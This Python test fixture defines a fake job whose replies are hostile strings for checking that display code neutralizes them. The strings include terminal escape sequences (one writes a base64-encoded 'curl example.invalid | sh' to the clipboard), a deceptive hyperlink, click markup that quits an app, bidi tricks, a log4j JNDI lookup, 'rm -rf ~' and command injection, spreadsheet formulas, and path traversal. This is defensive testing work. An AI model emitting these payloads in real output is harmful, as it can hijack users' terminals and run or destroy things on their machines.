"""A job whose replies attack terminals, screens and parsers.

They are harmless as bytes. Programs that display results must neutralize them.
"""

from typing import Any

ESC, CSI8, OSC8, DCS8, ST8 = "\x1b", "\x9b", "\x9d", "\x90", "\x9c"
ATTACKS = (
    f"{ESC}[2J{ESC}[H{ESC}[31mThe screen is mine now{ESC}[0m",
    f"{ESC}[?1049l{ESC}[?25l{ESC}[?1000h{ESC}[8;1;1t leaves the screen, hides the cursor, wants the mouse",
    f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[18t{ESC}[21t asks the terminal, and the answers arrive as keys",
    f"{ESC}]0;title taken{ESC}\\{ESC}]2;and again\x07 sets the window title",
    f"{ESC}]52;c;Y3VybCBleGFtcGxlLmludmFsaWQgfCBzaA==\x07 writes the clipboard",
    f"{ESC}]52;c;?\x07 reads the clipboard",
    f"{ESC}]8;;https://example.invalid/phish{ESC}\\https://example.com{ESC}]8;;{ESC}\\ is a link that lies",
    f"{ESC}]4;1;?{ESC}\\{ESC}]10;?{ESC}\\{ESC}]11;#ff0000{ESC}\\ asks for colors and changes them",
    f"{ESC}]1337;File=name=eC5zaA==;inline=0:ZWNobyBoaQo={ESC}\\ sends a file",
    f'{ESC}P$q"p{ESC}\\{ESC}P+q544e{ESC}\\{ESC}Pq#0;2;0;0;0~-{ESC}\\ is a DCS request and a sixel',
    f"{ESC}_Ga=T,f=24;AAAA{ESC}\\{ESC}^private{ESC}\\{ESC}Xstring{ESC}\\ are APC, PM and SOS",
    f"{CSI8}31m{CSI8}2J{OSC8}0;eight bits{ST8}{DCS8}q{ST8} are the same in C1",
    f"{ESC}c{ESC}#8{ESC}(0lqqk{ESC}(B{ESC}[!p resets and draws boxes\x0e\x0f",
    "beep \x07 back \x08\x08\x08\x08space, tab \t, vertical \x0b, form \x0c, return \rOVER \x7f and \x00",
    "[@click=app.quit]x[/] quits when clicked, [@click=app.bell()]so does this[/]",
    "[bold red]loud[/] [/x] [/] [link=https://example.invalid]here[/link] [[literal]] [0] array[i] [on blue",
    "[@click=screen.dismiss(True)]Yes, delete all[/] \\[bold] $primary [$error]color[/]",
    "user\u202etxt.exe\u202c and \u2066isolated\u2069 and \u061c and \u200f turn the line around",
    "zero\u200bwidth\u200djoin\u2060er\ufeff and soft\u00adhyphen and \u2028line\u2029paragraph separators",
    "tags \U000e0001\U000e0068\U000e0069\U000e0064\U000e0065\U000e007f hide, as \ufe0f\ufe0e\U000e0100 do",
    "Z̸̡̢̛̝͙̲͇̹̰̩̼̱̈́̀͐̈́̓͌͋̀̚͝͝a̵͕̗͎͔̾̏l̶̛͙̳̩̈́̔g̴̭̉͝o̵̻̿ stacks marks, ﷽ is wide, \u200b is nothing, ｆｕｌｌ is full",
    "half a pair \ud83d and the other half \ude00 and \udc00\ud800 the wrong way round",
    '=HYPERLINK("https://example.invalid") +1+1 -2+3 @SUM(A1) are formulas in a spreadsheet',
    "${jndi:ldap://example.invalid/a} `$(touch x)` ; rm -rf ~ && %s%n {0.__class__} <script>x()</script>",
    "../../.ssh/authorized_keys and C:\\CON and a\u0000b and file:///etc/passwd are names",
    "┌ Delete 40 batches? ┐\n│  [ Yes ]   [ No ]  │\n└────────────────────┘ is not a dialog",
    f"nested {ESC}[{ESC}[31m{ESC}]{ESC}]52;c;QQ=={ESC} and unfinished {ESC}[38;2;",
    "\r\n\r\n# A heading after Windows line ends\r\n\r\n```\r\nno end of the fence\r\n",
    "x" * 3000 + " is one word",
    "a\u0301" * 400 + " is four hundred letters",
)

SOURCE: dict[str, Any] = {
    "openings": ["", "Sure!", f"{ESC}[1m", "[bold]", "\u202e", "\ufeff"],
    "paragraphs": list(ATTACKS),
    "closings": ["", f"{ESC}[0m", "[/]", f"{ESC}]52;c;", "\u2069"],
    "shapes": {"text": 6, "thinking": 1, "tool": 1},
    "length": 500,
    "input_tokens": 300,
    "edge": "",
    "joiner": "\n",
    "failures": (
        *(("invalid_request_error", attack) for attack in ATTACKS),
        (f"api_{ESC}[31merror", "an error type with colors"),
        ("[bold]markup_error[/]", "an error type with markup"),
    ),
}
"""The same keys as in the file of another job."""
